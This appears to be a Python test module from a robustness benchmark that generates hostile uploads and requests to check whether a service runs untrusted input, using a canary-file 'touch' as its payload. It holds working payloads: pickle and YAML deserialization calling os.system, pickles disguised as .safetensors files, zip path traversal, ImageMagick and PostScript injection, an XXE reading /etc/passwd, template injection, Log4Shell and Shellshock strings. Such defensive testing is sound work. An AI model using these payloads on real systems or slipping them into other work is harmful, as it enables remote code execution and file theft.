"""Files and requests that write a file, the canary, wherever something runs or opens what a stranger sends."""

from __future__ import annotations

import io
import os
import pickle
import zipfile
from collections.abc import Iterator
from pathlib import Path

import numpy as np

from benchmarks.robustness import requests as hostile


class Runs:
    """What a pickle of it does when it is read."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self.command,)


def uploads(canary: Path) -> Iterator[tuple[str, bytes]]:
    """Names and contents of files."""
    command = f"touch {canary}"
    code = pickle.dumps(Runs(command))
    yield "code: a pickle", code
    yield "code: a checkpoint of torch", _zip({"a/data.pkl": code, "a/version": b"3\n", "a/byteorder": b"little"})
    array = io.BytesIO()
    np.save(array, np.array([Runs(command)], dtype=object), allow_pickle=True)
    yield "code: a NumPy array of objects", array.getvalue()
    yield "code: a zip whose file lies elsewhere", _zip({f"../../../../../../../..{canary}": b"x"})
    texts = {
        "Python": f"import os\nos.system({command!r})\n",
        "a shell script": f"#!/bin/sh\n{command}\n",
        "PostScript": f"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%{command}) (r) file\n({canary}) (w) file\n",
        "a picture of ImageMagick": f"push graphic-context\nfill 'url(https://x.invalid/a\"|{command}\")'\n",
        "SVG": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{command}</script><image href="|{command}"/></svg>',
        "XML": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><svg>&b;</svg>',
        "YAML": f"!!python/object/apply:os.system [{command!r}]\n",
        "PHP": f"<?php system({command!r}); ?>",
    }
    for name, text in texts.items():
        yield f"code: {name}", text.encode()


def requests(task: str, canary: Path) -> Iterator[tuple[str, bytes]]:
    """Names and bytes of requests."""
    command, good = f"touch {canary}", hostile.field(b"tasks", task.encode())
    for words in _words(command, canary):
        text = words.encode()
        yield "code: in the name of an image", hostile.post(hostile.form(hostile.image(None, text), good))
        yield "code: in a task", hostile.post(hostile.form(hostile.image(), hostile.field(b"tasks", text)))
        for field in (b"top", b"score", b"path", b"weights"):
            extra = hostile.field(field, text)
            yield "code: in another field", hostile.post(hostile.form(hostile.image(), good, extra))
        yield "code: in a header", hostile.get(b"/v1/tasks", b"User-Agent: " + text, b"X-API-Key: " + text)
        yield "code: in a query", hostile.get(b"/v1/tasks?a=" + text.replace(b" ", b"%20"))
    for kind in (b"application/x-python-pickle", b"application/yaml", b"application/xml"):
        for _, content in uploads(canary):
            yield "code: as the whole body", hostile.post(content, kind=kind)


def served(folder: Path, canary: Path) -> None:
    """Files in a folder of tasks."""
    for name, content in uploads(canary):
        (folder / f"{name.replace(': ', ' ').replace(' ', '-')}.safetensors").write_bytes(content)
    run = folder / "code-run"
    run.mkdir()
    (run / "artifact.safetensors").write_bytes(pickle.dumps(Runs(f"touch {canary}")))
    (run / "config.yaml").write_text(f"name: !!python/object/apply:os.system ['touch {canary}']\n")


def _words(command: str, canary: Path) -> Iterator[str]:
    yield f"; {command};"
    yield f"$({command})"
    yield f"`{command}`"
    yield f"|{command}"
    yield f"__import__('os').system('{command}')"
    yield "{{ cycler.__init__.__globals__.os.popen('" + command + "').read() }}"
    yield "${jndi:ldap://x.invalid/a}"
    yield "() { :;}; " + command
    yield f"!!python/object/apply:os.system ['{command}']"
    yield str(canary)
    yield f"../../../../../../../..{canary}"


def _zip(files: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return made.getvalue()
